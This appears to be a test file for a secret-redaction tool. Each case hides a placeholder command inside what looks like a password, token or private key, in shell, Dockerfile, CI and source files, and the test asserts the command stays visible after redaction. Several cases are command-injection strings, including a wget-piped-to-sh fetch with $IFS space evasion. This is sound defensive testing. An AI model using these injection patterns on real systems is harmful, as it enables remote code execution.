import assert from 'node:assert/strict';
import { removedSecret, replaced, secretsIn } from '../../../src/privacy/secrets.js';

/**
 * Lines of a file that hide `EVIL` in or behind what looks like a secret: the name of the file, its lines, and what must
 * be seen where it is not `EVIL`. `~64~` stands for a line of a key.
 */
const smuggled: readonly (readonly [file: string, lines: string, evil?: string])[] = [
  // A shell's word ends, and a command follows.
  ['run.sh', 'DB_PASSWORD=qwe8Zr;wget$IFS-qO-$IFS//EVIL|sh'],
  ['run.sh', 'export DB_PASSWORD=qwe8Zr&&EVIL1'],
  ['run.sh', 'DB_PASSWORD=qwe8Zr|EVIL1'],
  ['run.sh', 'DB_PASSWORD=qwe8Zr&EVIL1'],
  ['run.sh', 'DB_PASSWORD=qwe8Zr>EVIL1'],
  ['run.sh', 'DB_PASSWORD=`EVIL1`'],
  ['run.sh', 'DB_PASSWORD=x1y2$(EVIL1)'],
  ['run.sh', 'DB_PASSWORD=x1y2`EVIL1`z'],
  ['run.sh', 'DB_PASSWORD="x1y2$(EVIL1)"'],
  ['run.sh', 'DB_PASSWORD="x1y2`EVIL1`"'],
  ['run.sh', 'DB_PASSWORD= EVIL1'],
  ['run.sh', 'DB_PASSWORD= "EVIL1"'],
  ['run.sh', 'DB_PASSWORD=\n"EVIL1"'],
  ['run.sh', 'DB_PASSWORD=|\n  EVIL1'],
  ['run.sh', 'password:|\n  EVIL1'],
  ['run.sh', 'test $password || "EVIL1"'],
  ['run.sh', 'token=> "EVIL1x9y8z7w6"'],
  ['run.sh', 'echo "" password="a1&EVIL1&"x"'],
  ['run.sh', 'login me password x1y2;EVIL1'],
  ['run.sh', 'password is x1;EVIL1|sh'],
  ['run.sh', 'mysql -uroot -pX1y2;wget$IFS-qO-$IFS//EVIL|sh'],
  ['run.sh', 'mysql -uroot -p"X1y2";EVIL1'],
  ['run.sh', 'sshpass -pX1y2;EVIL1 ssh host'],
  ['run.sh', 'redis-cli -a X1y2|EVIL1'],
  ['run.sh', 'redis-cli -a $(EVIL1)x9'],
  ['run.sh', 'curl -u me:X1y2;EVIL1|sh https://host.example.org'],
  ['run.sh', 'curl -u "me:X1y2"`EVIL1` https://host.example.org'],
  ['run.sh', 'docker login -u me -p X1y2&&EVIL1'],
  ['run.sh', 'openssl enc -k pass:X1y2;EVIL1'],
  ['run.sh', 'psql --password X1y2;EVIL1'],
  ['run.sh', 'psql --password `EVIL1`'],
  ['Dockerfile', 'RUN psql --token `EVIL1x9y8z7`'],
  ['x.py', 'ghp_EVILk5a4Xc9T4fNP0UcnZwJUVFk6LO0pINUx()'],
  ['x.rb', 'Basic Ab1Cd2Ef3Gh4.EVIL1(x)'],
  ['run.sh', 'tool --token=Ab1Cd2Ef3Gh4;EVIL1'],
  ['run.sh', 'git clone https://me:X1y2;EVIL1|sh@host.example.org/x'],
  ['run.sh', 'git clone https://me:X1y2@host.example.org/;EVIL1'],
  ['run.sh', 'git clone https://me:X1y2@host.example.org;EVIL1@x'],
  ['run.sh', 'curl https://host.example.org/?token=Ab1Cd2Ef3|EVIL1'],
  ['run.sh', 'curl https://host.example.org/?token=Ab1Cd2Ef3$(EVIL1)'],
  ['run.sh', 'curl https://hooks.slack.com/services/T1Ab2Cd3/B1Ab2/Xy9Zw8;EVIL1'],
  ['run.sh', 'curl -H "Authorization: Bearer Ab1Cd2Ef3Gh4Ij5"`EVIL1`'],
  ['run.sh', 'curl -H Authorization:\\ Basic\\ Ab1Cd2Ef3Gh4Ij5;EVIL1'],
  ['run.sh', 'curl -H "Cookie: sid=Ab1Cd2Ef3Gh4Ij5Kl6$(EVIL1)"'],
  ['run.sh', 'host:5432:app:app:x1y2;EVIL1|sh'],
  ['run.sh', 'AWS_SESSION_TOKEN=IQoJb3JpZ2luAb1Cd2Ef3Gh4Ij5Kl6Mn7Op8Qr9St0Uv1Wx2Yz3;EVIL1'],
  // The same within other files.
  ['.env', 'DB_PASSWORD=qwe8Zr;wget$IFS-qO-$IFS//EVIL|sh'],
  ['.env', 'DB_PASSWORD= EVIL1'],
  ['app.properties', 'db.password=x1y2;EVIL(1)'],
  ['Dockerfile', 'RUN DB_PASSWORD=qwe8Zr;EVIL1'],
  ['Dockerfile', 'ENV DB_PASSWORD qwe8Zr;EVIL1'],
  ['Dockerfile', 'RUN mysql -pX1y2;EVIL1|sh'],
  ['Makefile', '\tDB_PASSWORD=qwe8Zr;EVIL1'],
  ['Makefile', 'DB_PASSWORD := $(shell EVIL1)'],
  ['ci.yml', '  - run: DB_PASSWORD=qwe8Zr;EVIL1|sh'],
  ['ci.yml', '  - run: mysql -pX1y2;EVIL1|sh'],
  ['ci.yml', '    password: x1y2;EVIL1|sh'],
  ['ci.yml', '  - run: |\n      password: |\n        EVIL1'],
  ['package.json', '  "start": "DB_PASSWORD=qwe8Zr;EVIL1|sh",'],
  ['x.bat', 'set DB_PASSWORD=qwe8Zr&EVIL1'],
  // Expressions in and between strings.
  ['x.py', 'print("password: " +EVIL1()+"x1")'],
  ['x.py', `password = f"{EVIL1('x')}"`],
  ['x.py', 'os.system("mysql -pX1y2;EVIL1")'],
  ['x.py', "os.system('DB_PASSWORD=qwe8Zr;EVIL1')"],
  ['x.py', 'IQoJb3JpZ2luX=Aa1=Bb2=EVIL1=Cc3=Dd4=Ee5Ff6=Gg7Hh8Ii9Jj0Kk1Ll2=superuser1'],
  ['x.py', 'password = x1y2z3(EVIL1)'],
  ['x.py', 'password = users[EVIL1]'],
  ['x.js', 'headers = {Cookie: a=EVIL1("Ab1Cd2Ef3Gh4Ij5Kl6")}'],
  ['x.js', 'const o = {password:x1y2z3,run:EVIL1()}'],
  ['x.js', 'f({password: a1b2c3d4, b: EVIL1})'],
  ['x.jsx', '<Password>{EVIL1()}</Password>'],
  ['x.js', 'token = a1B2c3D4e5F6,EVIL1()'],
  ['x.rb', 'password = `EVIL1`'],
  ['x.rb', 'password = "x1#{EVIL1}"'],
  ['x.php', 'define("DB_PASSWORD", "{$o->EVIL(1)}");'],
  ['x.cs', 'var s = "Server=db;Password=x1y2;EVIL1()";'],
  ['x.js', '{SHA}is_admin=EVIL1+aaaaaaaaaaaaaaaaaaaaaaa'],
  // Between the marks of a key.
  ['run.sh', '# BEGIN-MARK\n# ~64~\nEVIL1\n# END-MARK'],
  [
    'run.sh',
    '# BEGIN-MARK\n/bin/////////////////////////EVIL\n# END-MARK',
    '/bin/////////////////////////EVIL',
  ],
  [
    'run.sh',
    '# BEGIN-MARK\n# ~64~\n/proc/self/root/proc/1/root/usr/bin/EVIL/\n# END-MARK',
    '/proc/self/root/proc/1/root/usr/bin/EVIL/',
  ],
  ['run.sh', '# BEGIN-MARK\n# ~64~\n> /etc/EVIL\n# ~64~\n# END-MARK'],
  ['run.sh', '# ~64~\nEVIL1\n# END-MARK'],
  ['x.py', '# BEGIN-MARK\n# ~64~\nif EVIL: return True\n# ~64~\n# END-MARK'],
  ['x.py', 'k = """BEGIN-MARK\n~64~\n"""; EVIL(); """\n~64~\nEND-MARK"""'],
  ['x.rb', '# BEGIN-MARK\n# ~64~\nletEverybodyInWithoutEVILPasswords\n# END-MARK'],
  ['x.rb', `# BEGIN-MARK\n# ~64~\n${'letEverybodyInWithoutEVIL'.padEnd(64, 'Passwords')}\n# END-MARK`],
  ['x.py', '# BEGIN-MARK\n# Comment: x; EVIL\n# ~64~\n# END-MARK'],
  ['x.pem', 'Private-Lines: 2\nEVIL(1)\n~64~'],
];

const keyLine = 'MIIEpAIBAAKCAQEA04up8hoqzS1APIB0RhjXyObwHQnOzhAk5Bd7mhkSbPkyhP1D';

describe('Code that looks like a part of a secret', () => {
  for (const [file, written, evil = 'EVIL'] of smuggled) {
    it(`is seen, or known not to be seen: ${file}: ${JSON.stringify(written)}`, async () => {
      const lines = written
        .replaceAll('~64~', keyLine)
        .replaceAll('BEGIN-MARK', ['-----BEGIN', 'PRIVATE KEY-----'].join(' '))
        .replaceAll('END-MARK', ['-----END', 'PRIVATE KEY-----'].join(' '))
        .split('\n');
      const text = `+++ b/${file}\n@@ -0,0 +1,${lines.length} @@\n${lines.map((line) => `+${line}\n`).join('')}`;
      const secrets = await secretsIn(text);
      const plain = replaced(
        text,
        secrets.filter(({ mayBeCode }) => !mayBeCode),
        () => removedSecret,
      );
      assert.ok(plain.includes(evil), plain);
    });
  }
});
